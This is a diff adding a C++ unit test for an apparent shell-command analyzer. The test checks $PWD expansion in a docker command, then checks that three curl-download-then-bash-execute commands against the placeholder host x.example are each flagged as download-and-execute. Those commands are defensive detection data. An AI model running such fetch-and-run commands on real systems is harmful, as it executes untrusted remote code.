@@ -474,6 +474,20 @@ TEST(ShellWords, HomeIsItsValueWhenKnown) {
   }
 }
 
+TEST(ShellWords, PwdIsItsValueWhenKnown) {
+  auto deadline = [] { return std::chrono::steady_clock::now() + std::chrono::seconds(2); };
+  auto a = analyze_shell("docker run --rm -v \"$PWD\":/app -w /app node:20 npm test", deadline(), "/home/dev",
+                         "/home/dev/project");
+  EXPECT_EQ(find(a, "docker")->args[3], "/home/dev/project:/app");
+  EXPECT_TRUE(find(a, "docker")->dynamic_args.empty());
+  // The same file under any of its names.
+  for (const char* cmd : {"curl -so i.sh https://x.example/i.sh && bash $PWD/i.sh",
+                          "curl -so $PWD/i.sh https://x.example/i.sh && bash ./i.sh",
+                          "curl -so ~/i.sh https://x.example/i.sh && bash /home/dev/i.sh"}) {
+    EXPECT_TRUE(analyze_shell(cmd, deadline(), "/home/dev", "/home/dev/project").download_exec) << cmd;
+  }
+}
+
 TEST(ShellWords, ExpandsBracesAsBashDoes) {
   auto args = [](const std::string& cmd) {
     auto a = analyze_shell(cmd);
